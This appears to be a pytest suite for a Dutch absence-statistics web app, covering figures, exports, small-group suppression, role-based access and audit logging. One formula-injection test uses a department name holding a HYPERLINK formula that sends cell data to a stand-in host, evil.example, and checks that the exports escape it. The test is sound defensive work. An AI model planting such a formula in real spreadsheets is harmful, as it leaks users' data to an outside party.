"""The absence statistics through the page, the exports, the PDF and the command: the same figures
as worked out by hand (statistics_world.py), small groups suppressed, sub-departments rolled up,
only the employer and arbodienst administrators, bad input named and never a traceback."""

from __future__ import annotations

import csv
import io
import json
from datetime import date

import pytest
from django.core.management import CommandError, call_command
from django.urls import reverse
from openpyxl import load_workbook

from openverzuim.accounts.models import AuditEntry, Department, Organisation
from openverzuim.accounts.roles import Role
from openverzuim.cases.models import Employee
from openverzuim.cases.statistics_rollup import statistics_refresh
from openverzuim.reports import counting
from openverzuim.reports import figures as f
from openverzuim.reports.statistics import dashboard
from tests.reports.statistics_world import employ, sick, worked_example
from tests.reports.test_caseload import member

URL = reverse("reports:statistics")
EXPORT = reverse("reports:statistics_export")
PDF = reverse("reports:statistics_pdf")
HAND = {
    "absence_percentage": (14.61, 51.4, 351.9),
    "reporting_frequency": (2.95, 4.0, 1.36),
    "average_duration_days": (15.3, 61.0, 4.0),
    "zero_absence_percentage": (33.3, 2.0, 6.0),
    # Everyone earns 3,000 a month: 98.630137 a calendar day. 61 sick days (the hours not worked)
    # over 436 available (leave out) = 6,016.44 / 43,002.74.
    "absence_cost_percentage": (13.99, 6016.44, 43002.74),
}


def q1(organisation: Organisation, **extra) -> dict:
    return {"organisation": organisation.pk, "period": "quarter", "month": "2026-03", **extra}


@pytest.fixture
def bakery_q1(bakery):
    worked_example(bakery)
    return bakery


def test_the_page_shows_the_figures_worked_out_by_hand(client, anna, bakery_q1):
    client.force_login(anna)
    response = client.get(URL, q1(bakery_q1), HTTP_ACCEPT_LANGUAGE="en")
    assert response.status_code == 200
    rows = response.context["tables"]["figures"].rows
    assert [(float(r[1]), float(r[3]), float(r[4])) for r in rows] == list(HAND.values())
    page = response.content.decode()
    assert "14.61" in page and "weighed by the part-time factor" in page
    assert page.count("<svg") == 7 and 'role="img"' in page and "<title id=" in page
    for name in ("Ann", "Bob", "Cor", "Dee", "Eef", "Fay"):
        assert f">{name}<" not in page and f" {name} " not in page


def test_dutch_by_default_with_dutch_numbers(client, anna, bakery_q1):
    client.force_login(anna)
    page = client.get(URL, q1(bakery_q1)).content.decode()
    assert "Verzuimpercentage" in page and "14,61" in page


def test_the_csv_export_carries_the_same_figures(client, anna, bakery_q1):
    client.force_login(anna)
    response = client.get(
        EXPORT, {**q1(bakery_q1), "format": "csv", "table": "figures"}, HTTP_ACCEPT_LANGUAGE="en"
    )
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    rows = exported_csv(response)
    assert rows[0][:5] == [
        "Figure",
        "This period",
        "Same period a year before",
        "Numerator",
        "Denominator",
    ]

    # Decimals with a decimal comma, as Excel set to Dutch reads them (core.spreadsheets).
    def number(cell: str) -> float:
        return float(cell.replace(",", "."))

    assert [(number(r[1]), number(r[3]), number(r[4])) for r in rows[1:]] == list(HAND.values())


def exported_csv(response) -> list[list[str]]:
    """The rows of a download from core.spreadsheets: UTF-8 with a BOM, `;` between fields."""
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text), delimiter=";"))


def test_a_department_named_like_a_formula_is_text_in_every_export(client, anna, bakery_q1):
    """Formula injection: the department's name reaches the spreadsheet as text, not a formula."""
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    department = Department.objects.create(organisation=bakery_q1, name=evil)
    Employee.objects.filter(organisation=bakery_q1).update(department=department)
    statistics_refresh(Employee.objects.filter(organisation=bakery_q1))  # as employee_update does
    client.force_login(anna)
    query = {**q1(bakery_q1), "format": "csv", "table": "departments"}
    names = [row[0] for row in exported_csv(client.get(EXPORT, query))[1:]]
    assert names == ["'" + evil]
    response = client.get(EXPORT, {**q1(bakery_q1), "format": "xlsx"})
    book = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    cells = [row[0] for row in book["departments"].iter_rows(min_row=2, values_only=True)]
    assert cells == ["'" + evil]
    assert all(cell.data_type != "f" for row in book["departments"].iter_rows() for cell in row)


def test_the_xlsx_export_has_a_sheet_for_every_table(client, anna, bakery_q1):
    client.force_login(anna)
    response = client.get(EXPORT, {**q1(bakery_q1), "format": "xlsx"}, HTTP_ACCEPT_LANGUAGE="en")
    book = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    assert book.sheetnames == ["figures", "sector", "trend", "classes", "departments"]
    figures = list(book["figures"].iter_rows(min_row=2, values_only=True))
    assert [(r[1], r[3], r[4]) for r in figures] == list(HAND.values())
    march = [r for r in book["trend"].iter_rows(values_only=True) if r[0] == "Mar 2026"]
    assert len(march) == 1


def test_the_pdf_of_the_dashboard(client, finn, bakery_q1):
    client.force_login(finn)
    response = client.get(PDF, q1(bakery_q1))
    assert response.status_code == 200 and response.content.startswith(b"%PDF")
    assert AuditEntry.objects.filter(
        subject="absence statistics",
        user_id=finn.pk,
        organisation_id=bakery_q1.pk,
        route="reports:statistics_pdf",
    ).exists()


def test_the_command_gives_the_same_figures(bakery_q1):
    out = io.StringIO()
    call_command(
        "absence_statistics",
        "--organisation",
        str(bakery_q1.pk),
        "--from",
        "2026-01-01",
        "--to",
        "2026-03-31",
        "--format",
        "json",
        stdout=out,
    )
    report = json.loads(out.getvalue())
    for key, (value, numerator, denominator) in HAND.items():
        # The command gives numerator and denominator to four decimals (1.3562 employee-years).
        assert report[key]["value"] == value
        assert report[key]["numerator"] == pytest.approx(numerator, abs=0.005)
        assert report[key]["denominator"] == pytest.approx(denominator, abs=0.005)
    assert report["reporting_frequency"]["denominator"] == 1.3562
    out = io.StringIO()
    call_command(
        "absence_statistics",
        "--organisation",
        str(bakery_q1.pk),
        "--from",
        "2026-01-01",
        "--to",
        "2026-03-31",
        "--format",
        "csv",
        stdout=out,
    )
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows[1] == ["absence_percentage", "14.61", "51.4", "351.9"]


@pytest.mark.parametrize(
    ("arguments", "message"),
    [
        (["--from", "2026-13-01", "--to", "2026-03-31"], "--from='2026-13-01': expected a date"),
        (["--from", "2026-03-01", "--to", "2026-01-31"], "lies before"),
        (["--from", "9999-12-31", "--to", "9999-12-31"], "give a date between"),
        (
            ["--from", "2026-01-01", "--to", "2026-03-31", "--department", "x\x00"],
            "expected the number",
        ),
        (["--from", "2026-01-01", "--to", "2026-03-31", "--department", "99999"], "no department"),
    ],
)
def test_the_command_names_a_bad_argument(bakery, arguments, message):
    with pytest.raises(CommandError, match=message):
        call_command("absence_statistics", "--organisation", str(bakery.pk), *arguments)


def test_the_command_refuses_an_organisation_that_is_no_employer(noorderlicht):
    for value in (str(noorderlicht.pk), "123456789", "NaN"):
        with pytest.raises(CommandError, match="--organisation"):
            call_command(
                "absence_statistics",
                "--organisation",
                value,
                "--from",
                "2026-01-01",
                "--to",
                "2026-03-31",
            )


def test_a_small_group_shows_no_figures(client, anna, bakery, today):
    """Four employees: one long case would be a person. No figure, no frequent-absence count, no
    bar; in the exports and the command alike."""
    for n in range(4):
        sick(employ(bakery, f"P{n}", "40"), (date(2026, 2, 1), date(2026, 2, 3 + n)))
    client.force_login(anna)
    response = client.get(URL, q1(bakery), HTTP_ACCEPT_LANGUAGE="en")
    rows = response.context["tables"]["figures"].rows
    assert all(row[1] == "fewer than 5 employees" and row[3] is None for row in rows)
    assert "Frequent absence: not shown" in response.content.decode()
    assert response.context["class_chart"].bars == []
    out = io.StringIO()
    call_command(
        "absence_statistics",
        "--organisation",
        str(bakery.pk),
        "--from",
        "2026-01-01",
        "--to",
        "2026-03-31",
        stdout=out,
    )
    report = json.loads(out.getvalue())
    assert report["suppressed"] and report["absence_percentage"] == {
        "value": None,
        "numerator": None,
        "denominator": None,
    }


def test_departments_roll_up_their_sub_departments_and_small_ones_are_suppressed(bakery, today):
    """Production (3 employees) has Ovens (5, the worked example) below it; Shop has 2. Production
    with Ovens is 8 people and shown; Shop is suppressed; the whole bakery is 10."""
    production = Department.objects.create(organisation=bakery, name="Production")
    ovens = Department.objects.create(organisation=bakery, name="Ovens", parent=production)
    shop = Department.objects.create(organisation=bakery, name="Shop")
    worked_example(bakery, department=ovens)
    for n in range(3):
        employ(bakery, f"Prod{n}", "40", department=production)
    for n in range(2):
        sick(
            employ(bakery, f"Shop{n}", "40", department=shop), (date(2026, 1, 5), date(2026, 1, 9))
        )
    board = dashboard(
        organisation=bakery,
        window=f.Window(date(2026, 1, 1), date(2026, 3, 31)),
        basis=counting.Basis(),
    )
    rows = {row.department.name: row for row in board.departments}
    assert [(r.department.name, r.depth) for r in board.departments] == [
        ("Production", 0),
        ("Ovens", 1),
        ("Shop", 0),
    ]
    assert rows["Ovens"].counts.employees == 6 and rows["Production"].counts.employees == 9
    assert rows["Production"].counts.sick == pytest.approx(51.4)
    assert rows["Production"].counts.available == pytest.approx(351.9 + 3 * 90)
    assert rows["Shop"].counts.suppressed and board.total.employees == 11
    assert board.total.sick == pytest.approx(51.4 + 10)
    scoped = dashboard(
        organisation=bakery, department=production, window=board.window, basis=counting.Basis()
    )
    assert scoped.total.sick == pytest.approx(51.4) and scoped.total.employees == 9
    assert [r.department.name for r in scoped.departments] == ["Production", "Ovens"]


def test_frequent_absence_is_a_count_without_names(client, anna, bakery, today):
    for n in range(5):
        employ(bakery, f"Steady{n}", "40")
    often = employ(bakery, "Often", "40")
    sick(
        often,
        (date(2025, 6, 2), date(2025, 6, 3)),
        (date(2025, 10, 6), date(2025, 10, 7)),
        (date(2026, 2, 2), date(2026, 2, 4)),
    )
    board = dashboard(
        organisation=bakery,
        window=f.Window(date(2026, 1, 1), date(2026, 3, 31)),
        basis=counting.Basis(),
    )
    assert board.frequent == 1
    client.force_login(anna)
    page = client.get(URL, q1(bakery), HTTP_ACCEPT_LANGUAGE="en").content.decode()
    assert "Frequent absence: 1 employee reported sick three times or more" in page
    assert "Often" not in page


def test_the_page_reads_a_constant_number_of_queries(
    client, anna, bakery_q1, django_assert_max_num_queries
):
    client.force_login(anna)
    client.get(URL, q1(bakery_q1))
    with django_assert_max_num_queries(31) as small:  # 30 and the header bell's unread count
        client.get(URL, q1(bakery_q1))
    for n in range(30):
        sick(
            employ(bakery_q1, f"More{n}", "32"),
            (date(2026, 1, 2 + n), date(2026, 2, 2)),
            resumptions=((date(2026, 1, 20 + n % 5), "8"),),
        )
    with django_assert_max_num_queries(len(small.captured_queries)):
        client.get(URL, q1(bakery_q1))


def test_an_arbodienst_administrator_sees_only_the_employers_it_serves(
    client, finn, bakery_q1, installer
):
    client.force_login(finn)
    response = client.get(URL, q1(installer), HTTP_ACCEPT_LANGUAGE="en")
    assert response.status_code == 200 and "board" not in response.context
    assert "Organisation: choose one of the employers in the list." in response.content.decode()
    for url in (EXPORT, PDF):
        refused = client.get(url, {**q1(installer), "format": "xlsx"}, HTTP_ACCEPT_LANGUAGE="en")
        assert refused.status_code == 400 and b"Organisation" in refused.content
    assert not AuditEntry.objects.filter(subject="absence statistics").exists()


def test_a_department_of_another_employer_is_refused(client, anna, bakery_q1, installer):
    elsewhere = Department.objects.create(organisation=installer, name="Elsewhere")
    client.force_login(anna)
    response = client.get(URL, q1(bakery_q1, department=elsewhere.pk), HTTP_ACCEPT_LANGUAGE="en")
    assert "Department: choose one of the departments" in response.content.decode()
    assert "board" not in response.context


@pytest.mark.parametrize(
    "params",
    [
        {"period": "decade"},
        {"month": "2026-13"},
        {"month": "9999-12"},
        {"month": "2026-03\x00"},
        {"organisation": "NaN"},
        {"month": "2099-01"},
        {"period": ""},
        {"organisation": ""},
    ],
)
def test_bad_input_names_the_field(client, anna, bakery_q1, params):
    client.force_login(anna)
    response = client.get(URL, {**q1(bakery_q1), **params}, HTTP_ACCEPT_LANGUAGE="en")
    assert response.status_code == 200
    assert response.context["form"].errors
    export = client.get(EXPORT, {**q1(bakery_q1), **params, "format": "csv", "table": "figures"})
    assert export.status_code == 400


def test_an_unknown_export_format_is_refused(client, anna, bakery_q1):
    client.force_login(anna)
    for params in ({"format": "csv", "table": "names"}, {"format": "exe"}):
        response = client.get(EXPORT, {**q1(bakery_q1), **params}, HTTP_ACCEPT_LANGUAGE="en")
        assert response.status_code == 400 and b"Format" in response.content


@pytest.mark.django_db(databases=["default", "medical"])
def test_roles_without_the_statistics_are_refused(
    client, bram, eva_user, dirk, bakery_q1, verified_login
):
    lena = member("lena", bakery_q1, Role.LINE_MANAGER)
    for user in (bram, eva_user, lena):
        client.force_login(user)
        for url in (URL, EXPORT, PDF):
            assert client.get(url, q1(bakery_q1)).status_code == 404
    verified_login(client, dirk)
    assert client.get(URL, q1(bakery_q1)).status_code == 404
    assert not AuditEntry.objects.filter(subject="absence statistics").exists()


def test_the_page_view_is_audited(client, anna, bakery_q1):
    client.force_login(anna)
    client.get(URL, q1(bakery_q1))
    entry = AuditEntry.objects.get(subject="absence statistics")
    assert (entry.action, entry.user_id, entry.organisation_id, entry.route) == (
        "read",
        anna.pk,
        bakery_q1.pk,
        "reports:statistics",
    )
    assert entry.case_id is None and entry.employee_id is None


def test_the_default_page_is_the_current_quarter_of_the_first_employer(
    client, anna, bakery_q1, today
):
    client.force_login(anna)
    board = client.get(URL).context["board"]
    assert board.organisation == bakery_q1
    assert (board.window.start, board.window.end) == (date(2026, 10, 1), today)
    assert Employee.objects.filter(organisation=bakery_q1).count() == 6
